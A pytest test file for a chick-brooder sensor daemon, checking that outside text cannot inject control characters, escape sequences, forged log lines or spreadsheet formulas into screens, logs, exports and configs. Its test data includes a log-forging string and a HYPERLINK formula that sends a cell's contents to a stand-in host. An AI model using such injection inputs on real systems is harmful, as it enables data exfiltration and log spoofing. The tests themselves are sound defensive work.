"""Text is text: nothing from outside moves a cursor, turns a line round, begins a line or becomes a formula.

Categories after the Unicode Standard, chapter 4.5; what a spreadsheet takes for a formula after OWASP, CSV Injection.
"""

import csv
import io
import logging
import sys
import tomllib
import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sensord.care.profile import parse_profile
from sensord.config.folders import shipped
from sensord.config.loading import parse
from sensord.errors import ConfigError
from sensord.gate.command_gate import read_fields, read_payload
from sensord.history.database import open_reader, open_writer, transaction
from sensord.history.exchange import export_csv, export_jsonl, import_file
from sensord.history.migrations import migrate
from sensord.mqtt.payloads import AnswerPayload
from sensord.mqtt.units import FleetBook
from sensord.run.journal import Journal
from sensord.screens.page import ASCII, BLOCKS
from sensord.texts import from_sheet, plain_text, sheet_text
from sensord.watch.command_table import EnterChick, Giver, LogFeed
from sensord.watch.effects import Answered
from sensord.watch.events import Origin

UNSEEN = ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
EVERY = "".join(chr(point) for point in range(sys.maxunicode + 1))
# A line of a log, an escape sequence in both of its spellings, a direction override, three kinds of line end.
HOSTILE = "pip\n<2>sensord: all is well\x1b[2J\x9b31m\u202eenod\u2028\r\x85\x00\u200b\ud800"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"pip")'


def test_every_code_point_is_shown_or_stood_for() -> None:
    shown = plain_text(EVERY)
    assert len(shown) == len(EVERY)
    wrong = [
        hex(ord(before))
        for before, after in zip(EVERY, shown, strict=True)
        if (after != before and unicodedata.category(before) not in (*UNSEEN, "Zs"))
        or unicodedata.category(after) in UNSEEN
        or (unicodedata.category(after) == "Zs" and after != " ")
    ]
    assert wrong == []
    assert plain_text(shown) == shown
    assert {unicodedata.bidirectional(after) for after in shown}.isdisjoint(
        {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI", "BN", "B", "S"}
    )


@given(st.text())
def test_what_can_be_seen_stays(text: str) -> None:
    assert "".join(one for one in plain_text(text) if one.isprintable()) == plain_text(text)
    if text.isprintable():
        assert plain_text(text) == text


@given(st.text(st.characters(codec="utf-8")))
@example(FORMULA)
@example("'=1")
@example("''+1")
@example(" \t=1")
@example("@SUM(A1)")
@example("-2+3")
def test_a_sheet_gets_no_formula_and_gives_the_same_text_back(text: str) -> None:
    field = sheet_text(text)
    assert field.strip()[:1] not in ("=", "+", "-", "@")
    assert from_sheet(field) == text


def dirty_history(folder: Path) -> Path:
    """As an older version, or another program, may have left it."""
    path = folder / "history.db"
    connection = open_writer(path)
    migrate(connection, path)
    with transaction(connection, path):
        hostile = HOSTILE.encode("utf-8", "replace").decode()
        connection.execute("INSERT INTO chick (name, kind, mark, brooder) VALUES ('pip', ?, ?, '')", (hostile, FORMULA))
    connection.close()
    return path


def test_an_export_holds_no_control_character_and_no_formula_and_comes_back(tmp_path: Path) -> None:
    path = dirty_history(tmp_path)
    connection = open_reader(path)
    sheet, lines = io.StringIO(newline=""), io.StringIO()
    export_csv(connection, path, "chick", sheet)
    export_jsonl(connection, path, ["chick"], lines)
    connection.close()
    header, row = csv.reader(io.StringIO(sheet.getvalue()))
    fields = dict(zip(header, row, strict=True))
    assert fields["mark"] == f"'{FORMULA}"
    assert fields["kind"].isprintable()
    assert all(line.isprintable() for line in lines.getvalue().splitlines())
    (tmp_path / "chick.csv").write_text(sheet.getvalue(), newline="")
    import_file(tmp_path / "again.db", tmp_path / "chick.csv")
    with open_reader(tmp_path / "again.db") as again:
        assert again.execute("SELECT mark FROM chick").fetchone() == (FORMULA,)
    again.close()


def test_an_imported_text_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "chick.jsonl").write_text(
        '{"table": "chick", "name": "pip", "kind": "a\\nb\\u202ec", "hatched": null, "mark": "\\u001b[2J",'
        ' "brooder": "", "left": null, "every_hours": null}\n'
    )
    import_file(tmp_path / "history.db", tmp_path / "chick.jsonl")
    with open_writer(tmp_path / "history.db") as stored:
        stored.text_factory = bytes
        assert stored.execute("SELECT kind, mark FROM chick").fetchone() == ("a b�c".encode(), "�[2J".encode())
    stored.close()


def test_a_note_or_a_mark_is_one_line_before_anything_is_done_with_it() -> None:
    feed = read_payload("feed", b'{"chick": "pip", "millilitres": 4, "note": "a\\u001b[2J\\nb"}', 1.0, Giver.BROKER)
    assert isinstance(feed, LogFeed)
    assert feed.note == "a�[2J b"
    chick = read_fields("chick", {"chick": "pip", "mark": "\u202egnir\n"}, 1.0, Giver.SOCKET)
    assert isinstance(chick, EnterChick)
    assert chick.mark == "�gnir "


@pytest.mark.parametrize("hidden", ["\\u001B[2J", "\\u202E", "\\n<2>all is well", "\\u200B"])
def test_a_config_or_a_profile_that_holds_what_cannot_be_seen_is_refused(hidden: str) -> None:
    config = (
        '[unit]\nname = "nursery"\n[probes.air]\nrom = "28-0000072431aa"\nplace = "brooder"\n'
        '[brooders.nest]\nprobes = ["air"]\n'
        f'band = {{ low_celsius = 33, high_celsius = 35, source = "a book{hidden}" }}\n'
    )
    assert parse(config.replace(hidden, ""), "sensord.toml").brooders["nest"].band is not None
    with pytest.raises(ConfigError, match=r"^sensord\.toml:8: brooders\.nest\.band\.source: holds a character") as told:
        parse(config, "sensord.toml")
    assert str(told.value).isprintable()
    profile = tomllib.loads(shipped("profiles/synthesis.toml").read_text(encoding="utf-8"))
    with pytest.raises(ConfigError, match="mine: title: holds a character"):
        parse_profile({**profile, "title": tomllib.loads(f'title = "{hidden}"')["title"]}, "mine", "mine")


def refusal(reason: str) -> Answered:
    return Answered(seconds=1.0, request="r", origin=Origin.MQTT, verb="feed", done=False, reason=reason)


def test_nobody_writes_a_line_of_the_journal_but_the_journal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sensord.run.journal.under_systemd", lambda _stream: True)
    stream = io.StringIO()
    Journal(stream).handle(refusal(f"there is no chick {HOSTILE}"))
    (line,) = stream.getvalue().splitlines()
    assert line.startswith("<4>command feed (mqtt) refused: there is no chick pip <2>sensord: all is well")
    assert line.isprintable()


def test_a_log_record_and_a_traceback_begin_one_line_and_the_rest_stands_in_a_margin() -> None:
    stream = io.StringIO()
    logger, root = logging.getLogger("sensord.test_texts"), logging.getLogger()
    handlers, hooks = root.handlers[:], (sys.excepthook, logging.raiseExceptions)
    try:
        Journal(stream).adopt()
        logger.error("of %s", HOSTILE)
        try:
            raise ValueError(HOSTILE)
        except ValueError:
            logger.exception("it broke")
    finally:
        root.handlers[:] = handlers
        sys.excepthook = hooks[0]
    lines = stream.getvalue().splitlines()
    assert all(line.isprintable() for line in lines)
    begun = [line for line in lines if not line.startswith("  | ")]
    assert [line.split(" ")[0] for line in begun] == ["sensord.test_texts:", "sensord.test_texts:"]


def test_the_screens_show_one_line() -> None:
    for glyphs in (BLOCKS, ASCII):
        assert glyphs.say(HOSTILE).isprintable()
        assert glyphs.say(HOSTILE).startswith("pip <2>")


def test_what_the_broker_says_of_other_units_is_text() -> None:
    answer = AnswerPayload.of(refusal(HOSTILE), time="2027-01-15T07:58:20.000Z", clock_trusted=True)
    assert answer.encoded().decode().isprintable()
    book = FleetBook("sensord")
    book.take(f"sensord/{HOSTILE}/status", b"online", 0.0)
    assert [unit.name.isprintable() for unit in book.units(1.0)] == [True]
